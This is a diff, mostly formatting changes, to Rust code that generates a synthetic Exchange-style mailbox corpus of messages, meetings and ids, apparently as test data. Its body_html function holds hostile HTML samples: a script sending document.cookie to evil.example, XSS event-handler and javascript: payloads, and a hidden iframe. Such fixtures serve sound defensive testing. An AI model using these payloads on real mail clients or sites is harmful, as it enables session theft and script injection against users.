@@ -84,9 +84,7 @@ impl FolderKind {
 
     /// Resolves a well-known name, case-insensitively.
     pub fn from_well_known(name: &str) -> Option<FolderKind> {
-        FolderKind::STANDARD
-            .into_iter()
-            .find(|f| f.well_known_name().is_some_and(|w| w.eq_ignore_ascii_case(name)))
+        FolderKind::STANDARD.into_iter().find(|f| f.well_known_name().is_some_and(|w| w.eq_ignore_ascii_case(name)))
     }
 
     /// The English display name (real tenants localise these; never match on them).
@@ -378,10 +376,7 @@ fn conversation(org: &Organization, size: &OrgSize, anchor: DateTime<Utc>, owner
         84..=95 => ConversationKind::NoReply,
         _ => ConversationKind::Draft,
     };
-    let team: Vec<usize> = org
-        .team_of(owner)
-        .filter(|&u| u != owner && org.users[u].has_mailbox)
-        .collect();
+    let team: Vec<usize> = org.team_of(owner).filter(|&u| u != owner && org.users[u].has_mailbox).collect();
     let colleagues = |r: &mut Rng, max: u64| -> Vec<usize> {
         let n = r.below(max + 1) as usize;
         let mut picked: Vec<usize> = Vec::new();
@@ -429,7 +424,12 @@ fn conversation(org: &Organization, size: &OrgSize, anchor: DateTime<Utc>, owner
                 let them = (Party::External(person.clone()), AddressStyle::Primary);
                 let cc_parties: Vec<_> = cc.iter().map(|&c| internal(c, &mut r)).collect();
                 let spec = if outbound {
-                    MessageSpec { from: (Party::Internal(owner), AddressStyle::Primary), to: vec![them], cc: cc_parties, at }
+                    MessageSpec {
+                        from: (Party::Internal(owner), AddressStyle::Primary),
+                        to: vec![them],
+                        cc: cc_parties,
+                        at,
+                    }
                 } else {
                     MessageSpec { from: them, to: vec![internal(owner, &mut r)], cc: cc_parties, at }
                 };
@@ -509,11 +509,7 @@ fn address_of(org: &Organization, party: &(Party, AddressStyle)) -> Address {
             let user = &org.users[*u];
             let address = match style {
                 AddressStyle::Primary => user.address().to_string(),
-                AddressStyle::Alias => user
-                    .smtp_addresses()
-                    .nth(1)
-                    .unwrap_or_else(|| user.address())
-                    .to_string(),
+                AddressStyle::Alias => user.smtp_addresses().nth(1).unwrap_or_else(|| user.address()).to_string(),
                 AddressStyle::MixedCase => mixed_case(user.address()),
                 AddressStyle::LegacyDn => user.legacy_dn.clone(),
             };
@@ -539,7 +535,9 @@ fn internet_message_id(org: &Organization, key: &ItemKey, from: &Address) -> Str
     let h = hash(org.seed, &[0x1d, key.owner as u64, key.source as u64, key.index as u64, key.part as u64]);
     let domain = from.address.rsplit_once('@').map(|(_, d)| d.to_ascii_lowercase());
     match domain {
-        Some(d) if !org.domains.iter().any(|x| x.name == d) => format!("<{h:016x}.{}@{d}>", key.part),
+        Some(d) if !org.domains.iter().any(|x| x.name == d) => {
+            format!("<{h:016x}.{}@{d}>", key.part)
+        }
         // Mail sent from Exchange Online carries a message id from its own servers.
         _ => format!("<{:X}@{:X}.namprd{:02}.prod.outlook.com>", h, h >> 40, h % 20),
     }
@@ -551,9 +549,15 @@ fn body_html(r: &mut Rng, greeting: &str, sender: &str, hostile: bool) -> String
     let hostile_part = if hostile {
         match r.below(4) {
             0 => "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
-            1 => "<img src=\"https://tracker.example.net/open.gif?u=1\" onerror=\"alert('xss')\" width=\"1\" height=\"1\">",
-            2 => "<a href=\"javascript:alert(document.domain)\">View the invoice</a><div onclick=\"alert(1)\">Click</div>",
-            _ => "<iframe src=\"https://evil.example/frame\"></iframe><style>body{display:none}</style><img src=\"https://cdn.example.com/logo.png\">",
+            1 => {
+                "<img src=\"https://tracker.example.net/open.gif?u=1\" onerror=\"alert('xss')\" width=\"1\" height=\"1\">"
+            }
+            2 => {
+                "<a href=\"javascript:alert(document.domain)\">View the invoice</a><div onclick=\"alert(1)\">Click</div>"
+            }
+            _ => {
+                "<iframe src=\"https://evil.example/frame\"></iframe><style>body{display:none}</style><img src=\"https://cdn.example.com/logo.png\">"
+            }
         }
     } else {
         ""
@@ -623,7 +627,11 @@ fn conversation_copies(
             is_draft: conv.kind == ConversationKind::Draft,
             importance: if r.chance(5) { "high" } else { "normal" },
             has_attachments: r.chance(15),
-            inference: if matches!(conv.kind, ConversationKind::Newsletter | ConversationKind::NoReply) { "other" } else { "focused" },
+            inference: if matches!(conv.kind, ConversationKind::Newsletter | ConversationKind::NoReply) {
+                "other"
+            } else {
+                "focused"
+            },
             categories: vec![],
             meeting: None,
             version: 0,
@@ -688,11 +696,8 @@ fn meeting(org: &Organization, anchor: DateTime<Utc>, owner: usize, index: u32) 
     let company = &org.companies[(owner * 3 + r.below(3) as usize) % org.companies.len()];
     let contact = r.pick(&company.people).clone();
     let owner_user = &org.users[owner];
-    let organizer = if kind == MeetingKind::ExternalOrganizer {
-        Party::External(contact.clone())
-    } else {
-        Party::Internal(owner)
-    };
+    let organizer =
+        if kind == MeetingKind::ExternalOrganizer { Party::External(contact.clone()) } else { Party::Internal(owner) };
     let zone_name = if kind == MeetingKind::ExternalOrganizer { company.time_zone } else { owner_user.time_zone };
     let zone = Zone::parse(zone_name).unwrap_or(Zone::UTC);
     // Meetings fall from a year ago to a few months ahead, on working days.
@@ -771,15 +776,10 @@ fn meeting(org: &Organization, anchor: DateTime<Utc>, owner: usize, index: u32) 
 fn ical_uid(org: &Organization, owner: usize, index: u32, date: Option<NaiveDate>) -> String {
     // Outlook's GlobalObjectId: a fixed class id, then the instance date
     // (zero for the series or a single meeting), then a unique tail.
-    let instance = date
-        .map(|d| format!("{:04X}{:02X}{:02X}", d.year(), d.month(), d.day()))
-        .unwrap_or_else(|| "00000000".into());
+    let instance =
+        date.map(|d| format!("{:04X}{:02X}{:02X}", d.year(), d.month(), d.day())).unwrap_or_else(|| "00000000".into());
     let h = hash(org.seed, &[0x1ca1, owner as u64, index as u64]);
-    format!(
-        "040000008200E00074C5B7101A82E008{instance}{:016X}000000000000000010000000{:016X}",
-        h.rotate_left(17),
-        h
-    )
+    format!("040000008200E00074C5B7101A82E008{instance}{:016X}000000000000000010000000{:016X}", h.rotate_left(17), h)
 }
 
 /// The instant range of occurrence `n` of a meeting (DST-correct: the local
@@ -804,10 +804,7 @@ impl MeetingSpec {
         if self.organizer == Party::Internal(mailbox) {
             return Some("organizer");
         }
-        self.attendees
-            .iter()
-            .find(|(p, _, _)| *p == Party::Internal(mailbox))
-            .map(|(_, _, response)| *response)
+        self.attendees.iter().find(|(p, _, _)| *p == Party::Internal(mailbox)).map(|(_, _, response)| *response)
     }
 }
 
@@ -913,7 +910,9 @@ fn meeting_messages(
     if spec.kind == MeetingKind::Private {
         return;
     }
-    let Some(response) = spec.takes_part(mailbox) else { return };
+    let Some(response) = spec.takes_part(mailbox) else {
+        return;
+    };
     let (start, end, _) = occurrence_times(&spec, 0);
     let organizer = address_of(org, &(spec.organizer.clone(), AddressStyle::Primary));
     let to: Vec<Address> = spec
@@ -922,56 +921,70 @@ fn meeting_messages(
         .filter(|(p, _, _)| *p != spec.organizer)
         .map(|(p, _, _)| address_of(org, &(p.clone(), AddressStyle::Primary)))
         .collect();
-    let mut push = |part: u16, kind: &'static str, from: Address, to: Vec<Address>, subject: String, at: DateTime<Utc>, folder| {
-        if at > anchor {
-            return;
-        }
-        let key = ItemKey { owner: owner as u32, source: ItemKey::MEETING, index, part };
-        let mut r = Rng::new(org.seed, &[0xe7e5, mailbox as u64, owner as u64, index as u64, part as u64]);
-        out.push(Message {
-            key,
-            mailbox,
-            folder,
-            subject,
-            body_html: body_html(&mut r, "all", &from.name, false),
-            internet_message_id: internet_message_id(org, &key, &from),
-            from,
-            to,
-            cc: vec![],
-            bcc: vec![],
-            sent: at,
-            received: at + Duration::seconds(3),
-            conversation_id: format!("AAQkAD{}", b64(&hash(org.seed, &[0xe7c, owner as u64, index as u64]).to_be_bytes())),
-            is_read: r.chance(70),
-            is_draft: false,
-            importance: "normal",
-            has_attachments: false,
-            inference: "focused",
-            categories: vec![],
-            meeting: Some(MeetingMessage {
-                kind,
-                start,
-                end,
-                is_all_day: spec.all_day_days > 0,
-                location: spec.location.clone(),
-                meeting_index: index,
-                meeting_owner: owner as u32,
-            }),
-            version: 0,
-            raw: None,
-        });
-    };
+    let mut push =
+        |part: u16, kind: &'static str, from: Address, to: Vec<Address>, subject: String, at: DateTime<Utc>, folder| {
+            if at > anchor {
+                return;
+            }
+            let key = ItemKey { owner: owner as u32, source: ItemKey::MEETING, index, part };
+            let mut r = Rng::new(org.seed, &[0xe7e5, mailbox as u64, owner as u64, index as u64, part as u64]);
+            out.push(Message {
+                key,
+                mailbox,
+                folder,
+                subject,
+                body_html: body_html(&mut r, "all", &from.name, false),
+                internet_message_id: internet_message_id(org, &key, &from),
+                from,
+                to,
+                cc: vec![],
+                bcc: vec![],
+                sent: at,
+                received: at + Duration::seconds(3),
+                conversation_id: format!(
+                    "AAQkAD{}",
+                    b64(&hash(org.seed, &[0xe7c, owner as u64, index as u64]).to_be_bytes())
+                ),
+                is_read: r.chance(70),
+                is_draft: false,
+                importance: "normal",
+                has_attachments: false,
+                inference: "focused",
+                categories: vec![],
+                meeting: Some(MeetingMessage {
+                    kind,
+                    start,
+                    end,
+                    is_all_day: spec.all_day_days > 0,
+                    location: spec.location.clone(),
+                    meeting_index: index,
+                    meeting_owner: owner as u32,
+                }),
+                version: 0,
+                raw: None,
+            });
+        };
     if response != "organizer" {
         // Attendees receive the invitation, and a cancellation if there is one.
         push(0, "meetingRequest", organizer.clone(), to.clone(), spec.subject.clone(), spec.created, FolderKind::Inbox);
         if spec.kind == MeetingKind::Cancelled {
             let at = (start - Duration::days(1)).max(spec.created + Duration::hours(2));
-            push(1, "meetingCancelled", organizer.clone(), to.clone(), format!("Canceled: {}", spec.subject), at, FolderKind::Inbox);
+            push(
+                1,
+                "meetingCancelled",
+                organizer.clone(),
+                to.clone(),
+                format!("Canceled: {}", spec.subject),
+                at,
+                FolderKind::Inbox,
+            );
         }
     } else {
         // The organiser receives the answers of external attendees.
         for (n, (party, _, answer)) in spec.attendees.iter().enumerate() {
-            let Party::External(person) = party else { continue };
+            let Party::External(person) = party else {
+                continue;
+            };
             let (kind, verb) = match *answer {
                 "accepted" => ("meetingAccepted", "Accepted"),
                 "tentativelyAccepted" => ("meetingTenativelyAccepted", "Tentative"),
@@ -980,7 +993,15 @@ fn meeting_messages(
             };
             let from = Address { name: person.name.clone(), address: person.address.clone() };
             let at = spec.created + Duration::hours(1 + n as i64);
-            push(2 + n as u16, kind, from, vec![organizer.clone()], format!("{verb}: {}", spec.subject), at, FolderKind::Inbox);
+            push(
+                2 + n as u16,
+                kind,
+                from,
+                vec![organizer.clone()],
+                format!("{verb}: {}", spec.subject),
+                at,
+                FolderKind::Inbox,
+            );
         }
     }
 }
@@ -1005,7 +1026,13 @@ impl<'a> Corpus<'a> {
     /// start), in key order, stopping once `limit` messages are collected or
     /// `budget` sources have been examined. Returns the messages and whether the
     /// enumeration reached the end.
-    pub fn messages_after(&self, mailbox: usize, after: Option<ItemKey>, limit: usize, keep: &mut dyn FnMut(&Message) -> bool) -> (Vec<Message>, bool) {
+    pub fn messages_after(
+        &self,
+        mailbox: usize,
+        after: Option<ItemKey>,
+        limit: usize,
+        keep: &mut dyn FnMut(&Message) -> bool,
+    ) -> (Vec<Message>, bool) {
         let mut out = Vec::new();
         if !self.org.users.get(mailbox).is_some_and(|u| u.has_mailbox) {
             return (out, true);
@@ -1069,7 +1096,13 @@ impl<'a> Corpus<'a> {
     /// Generated calendar items of `mailbox` after `after`, in key order: single
     /// meetings and expanded occurrences (series masters are not listed, as in
     /// calendarView). `keep` filters; enumeration stops at `limit` items.
-    pub fn events_after(&self, mailbox: usize, after: Option<EventKey>, limit: usize, keep: &mut dyn FnMut(&Event) -> bool) -> (Vec<Event>, bool) {
+    pub fn events_after(
+        &self,
+        mailbox: usize,
+        after: Option<EventKey>,
+        limit: usize,
+        keep: &mut dyn FnMut(&Event) -> bool,
+    ) -> (Vec<Event>, bool) {
         let mut out = Vec::new();
         if !self.org.users.get(mailbox).is_some_and(|u| u.has_mailbox) {
             return (out, true);
@@ -1082,7 +1115,9 @@ impl<'a> Corpus<'a> {
             let first = if owner as u32 == start.owner { start.index } else { 0 };
             for index in first..self.size.meetings_per_mailbox() {
                 let spec = meeting(self.org, self.anchor, owner, index);
-                let Some(response) = spec.takes_part(mailbox) else { continue };
+                let Some(response) = spec.takes_part(mailbox) else {
+                    continue;
+                };
                 for n in 0..spec.occurrences {
                     let key = EventKey { owner: owner as u32, source: ItemKey::MEETING, index, occurrence: n };
                     if after.is_some_and(|a| key <= a) {
@@ -1130,7 +1165,6 @@ impl<'a> Corpus<'a> {
         self.org.users.get(mailbox)
     }
 }
-
 
 /// Base64 (standard alphabet, padded), the look of Exchange ids.
 pub fn b64(bytes: &[u8]) -> String {
@@ -1190,7 +1224,8 @@ mod tests {
         for u in 0..org.users.len() {
             let (msgs, done) = corpus.messages_after(u, None, usize::MAX, &mut |_| true);
             assert!(done);
-            ids_by_mailbox.push(msgs.into_iter().map(|m| m.internet_message_id).collect::<std::collections::HashSet<_>>());
+            ids_by_mailbox
+                .push(msgs.into_iter().map(|m| m.internet_message_id).collect::<std::collections::HashSet<_>>());
         }
         let shared = (0..org.users.len())
             .flat_map(|a| (0..org.users.len()).map(move |b| (a, b)))
@@ -1239,8 +1274,8 @@ mod tests {
             messages.extend(corpus.messages_after(u, None, usize::MAX, &mut |_| true).0);
             events.extend(corpus.events_after(u, None, usize::MAX, &mut |_| true).0);
         }
-        assert!(messages.iter().any(|m| m.meeting.as_ref().is_some_and(|x| x.kind == "meetingRequest")));
-        assert!(messages.iter().any(|m| m.meeting.as_ref().is_some_and(|x| x.kind == "meetingCancelled")));
+        assert!(messages.iter().any(|m| { m.meeting.as_ref().is_some_and(|x| x.kind == "meetingRequest") }));
+        assert!(messages.iter().any(|m| { m.meeting.as_ref().is_some_and(|x| x.kind == "meetingCancelled") }));
         assert!(messages.iter().any(|m| m.body_html.contains("<script")));
         assert!(messages.iter().any(|m| m.from.address.starts_with("/o=ExchangeLabs")));
         assert!(messages.iter().any(|m| m.folder == FolderKind::KeyAccounts));
